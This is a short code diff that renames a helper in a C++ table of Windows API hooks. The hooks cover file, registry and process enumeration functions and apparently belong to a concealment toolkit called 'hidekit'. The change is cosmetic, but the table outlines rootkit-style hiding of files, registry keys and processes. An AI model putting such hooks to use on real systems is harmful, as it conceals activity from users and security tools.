@@ -350,15 +350,17 @@ std::vector<HookSpec> Specs() {
   const wchar_t* kb = L"kernelbase.dll";
   const wchar_t* k32 = L"kernel32.dll";
   const wchar_t* adv = L"advapi32.dll";
-  auto files = [&](const char* n) { return std::vector<Export>{{kb, n}, {k32, n}}; };
+  auto kernel = [&](const char* n) { return std::vector<Export>{{kb, n}, {k32, n}}; };
   auto reg = [&](const char* n) { return std::vector<Export>{{kb, n}, {adv, n}, {k32, n}}; };
   return {
-      {kFindFirstFileW, "FindFirstFileW", files("FindFirstFileW"), HIDEKIT_HOOKS(HookFindFirstFileW)},
-      {kFindFirstFileExW, "FindFirstFileExW", files("FindFirstFileExW"), HIDEKIT_HOOKS(HookFindFirstFileExW)},
-      {kFindNextFileW, "FindNextFileW", files("FindNextFileW"), HIDEKIT_HOOKS(HookFindNextFileW)},
-      {kFindFirstFileA, "FindFirstFileA", files("FindFirstFileA"), HIDEKIT_HOOKS(HookFindFirstFileA)},
-      {kFindFirstFileExA, "FindFirstFileExA", files("FindFirstFileExA"), HIDEKIT_HOOKS(HookFindFirstFileExA)},
-      {kFindNextFileA, "FindNextFileA", files("FindNextFileA"), HIDEKIT_HOOKS(HookFindNextFileA)},
+      {kFindFirstFileW, "FindFirstFileW", kernel("FindFirstFileW"), HIDEKIT_HOOKS(HookFindFirstFileW)},
+      {kFindFirstFileExW, "FindFirstFileExW", kernel("FindFirstFileExW"),
+       HIDEKIT_HOOKS(HookFindFirstFileExW)},
+      {kFindNextFileW, "FindNextFileW", kernel("FindNextFileW"), HIDEKIT_HOOKS(HookFindNextFileW)},
+      {kFindFirstFileA, "FindFirstFileA", kernel("FindFirstFileA"), HIDEKIT_HOOKS(HookFindFirstFileA)},
+      {kFindFirstFileExA, "FindFirstFileExA", kernel("FindFirstFileExA"),
+       HIDEKIT_HOOKS(HookFindFirstFileExA)},
+      {kFindNextFileA, "FindNextFileA", kernel("FindNextFileA"), HIDEKIT_HOOKS(HookFindNextFileA)},
       {kRegEnumKeyExW, "RegEnumKeyExW", reg("RegEnumKeyExW"), HIDEKIT_HOOKS(HookRegEnumKeyExW)},
       {kRegEnumKeyExA, "RegEnumKeyExA", reg("RegEnumKeyExA"), HIDEKIT_HOOKS(HookRegEnumKeyExA)},
       {kRegEnumValueW, "RegEnumValueW", reg("RegEnumValueW"), HIDEKIT_HOOKS(HookRegEnumValueW)},
@@ -370,10 +372,10 @@ std::vector<HookSpec> Specs() {
         {k32, "K32EnumProcesses"},
         {L"psapi.dll", "EnumProcesses"}},
        HIDEKIT_HOOKS(HookEnumProcesses)},
-      {kProcess32FirstW, "Process32FirstW", files("Process32FirstW"), HIDEKIT_HOOKS(HookProcess32FirstW)},
-      {kProcess32NextW, "Process32NextW", files("Process32NextW"), HIDEKIT_HOOKS(HookProcess32NextW)},
-      {kProcess32First, "Process32First", files("Process32First"), HIDEKIT_HOOKS(HookProcess32First)},
-      {kProcess32Next, "Process32Next", files("Process32Next"), HIDEKIT_HOOKS(HookProcess32Next)},
+      {kProcess32FirstW, "Process32FirstW", kernel("Process32FirstW"), HIDEKIT_HOOKS(HookProcess32FirstW)},
+      {kProcess32NextW, "Process32NextW", kernel("Process32NextW"), HIDEKIT_HOOKS(HookProcess32NextW)},
+      {kProcess32First, "Process32First", kernel("Process32First"), HIDEKIT_HOOKS(HookProcess32First)},
+      {kProcess32Next, "Process32Next", kernel("Process32Next"), HIDEKIT_HOOKS(HookProcess32Next)},
   };
 }
 
